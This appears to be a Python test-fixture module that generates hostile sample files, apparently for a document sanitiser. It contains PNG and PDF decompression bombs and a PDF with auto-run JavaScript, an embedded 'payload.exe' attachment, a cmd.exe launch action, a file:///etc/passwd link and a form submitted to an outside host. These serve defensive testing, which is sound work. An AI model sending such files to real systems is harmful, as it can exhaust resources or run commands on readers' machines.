"""Files as citizens send them, and as nobody should: all made here, with real encoders."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Sequence
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image, ImageDraw

A4 = (595.0, 842.0)
TEHRAN = {1: "N", 2: (35.0, 41.0, 22.0), 3: "E", 4: (51.0, 23.0, 20.0)}  # the GPS part of a photo's EXIF


def photo(width: int = 400, height: int = 300, form: str = "JPEG", **options: Any) -> bytes:
    """A picture whose left upper quarter is red and the rest white."""
    image = Image.new("RGB", (width, height), "white")
    ImageDraw.Draw(image).rectangle((0, 0, width // 2, height // 2), fill="red")
    return saved(image, form, **options)


def saved(image: Image.Image, form: str, **options: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, form, **options)
    return out.getvalue()


def telling_photo(orientation: int = 6) -> bytes:
    """A photo as a telephone takes it: turned, with place, camera and a comment."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "Telephone"
    exif.get_ifd(0x8825).update(TEHRAN)
    return photo(exif=exif, comment=b"secret comment")


def png_bomb(side: int = 60_000) -> bytes:
    """A PNG of a few kilobytes that would be gigabytes of pixels."""
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    pixels = zlib.compress(bytes(4_000_000))
    chunks = (b"IHDR", header), (b"IDAT", pixels), (b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(kind, data) for kind, data in chunks)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pdf(sizes: Sequence[tuple[float, float]] = (A4,), **saving: Any) -> bytes:
    """A PDF with a line of text on each page: «page 1», …"""
    made = new_pdf(sizes)
    return written(made, **saving)


def new_pdf(sizes: Sequence[tuple[float, float]] = (A4,)) -> Pdf:
    made = pikepdf.new()
    for number, size in enumerate(sizes, start=1):
        made.add_blank_page(page_size=size)
        page = made.pages[-1]
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.obj.Resources = Dictionary(Font=Dictionary(F1=made.make_indirect(font)))
        page.contents_add(f"BT /F1 24 Tf 60 60 Td (page {number}) Tj ET".encode())
    return made


def written(made: Pdf, **saving: Any) -> bytes:
    out = io.BytesIO()
    made.save(out, **saving)
    return out.getvalue()


def acting_pdf() -> bytes:
    """A PDF with everything in it that acts, calls out, hides or tells."""
    made = new_pdf()
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    made.Root.OpenAction = script
    made.Root.AA = Dictionary(WC=script)
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))
    made.attachments["payload.exe"] = b"MZ payload"
    page = made.pages[0]
    page.obj.AA = Dictionary(O=script)
    page.obj.Metadata = made.make_stream(b"<x>telling</x>")
    page.obj.PieceInfo = Dictionary(Maker=Dictionary(Private=String("telling")))
    page.obj.Annots = Array([made.make_indirect(note) for note in _acting_notes()])
    image = made.make_stream(b"\0\0\0", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1)
    image.ColorSpace, image.BitsPerComponent = Name.DeviceRGB, 8
    image.Metadata = made.make_stream(b"<x>telling</x>")
    program = made.make_stream(b"showpage telling", Type=Name.XObject, Subtype=Name.PS)
    page.obj.Resources.XObject = Dictionary(Im=image, Program=program)
    made.Root.AcroForm = Dictionary(Fields=Array(), XFA=made.make_stream(b"<xdp/>telling"))
    made.docinfo["/Author"] = "telling"
    with made.open_metadata() as about:
        about["dc:creator"] = ["telling"]
    return written(made)


def _acting_notes() -> list[Dictionary]:
    place = Array([10, 10, 90, 30])
    actions = (
        Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
        Dictionary(S=Name.Launch, F=String("cmd.exe")),
        Dictionary(S=Name.SubmitForm, F=String("http://example.ir")),
    )
    links = [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=place, A=action) for action in actions]
    media = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=place, RichMediaContent=Dictionary())
    return [*links, media]


def filled_form(*, drawn: bool) -> bytes:
    """A form whose field holds «answer», drawn as readers draw it or not drawn at all."""
    made = new_pdf()
    font = made.pages[0].obj.Resources.Font
    look = made.make_stream(
        b"BT /F1 12 Tf 2 2 Td (answer) Tj ET", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 200, 20]
    )
    look.Resources = Dictionary(Font=font)
    field = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("f"),
        V=String("answer"),
        Rect=[60, 300, 260, 320],
        F=4,
    )
    field.Rect = Array([60, 300, 260, 320])
    if drawn:
        field.AP = Dictionary(N=look)
    widget = made.make_indirect(field)
    made.pages[0].obj.Annots = Array([widget])
    made.Root.AcroForm = Dictionary(Fields=Array([widget]), DR=Dictionary(Font=font), DA=String("/F1 12 Tf"))
    return written(made)


def pdf_bomb(expanded: int) -> bytes:
    """A small PDF with a stream that grows to ``expanded`` bytes."""
    made = new_pdf()
    made.pages[0].obj.Contents = packed(made, zlib.compress(bytes(expanded)), Name.FlateDecode)
    return written(made, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def table_bomb(expanded: int) -> bytes:
    """A PDF whose cross-reference table, which is read first, grows to ``expanded`` bytes."""
    table = zlib.compress(bytes(expanded))
    about = f"<</Type/XRef/W[1 2 1]/Size 5/Root 2 0 R/Filter/FlateDecode/Length {len(table)}>>"
    head = b"%PDF-1.5\n"
    return b"".join(
        (
            head,
            b"1 0 obj ",
            about.encode(),
            b"\nstream\n",
            table,
            b"\nendstream endobj\nstartxref\n9\n%%EOF\n",
        )
    )


def packed(made: Pdf, data: bytes, filters: Any) -> Any:
    stream = made.make_stream(data)
    stream.Filter = filters
    return stream
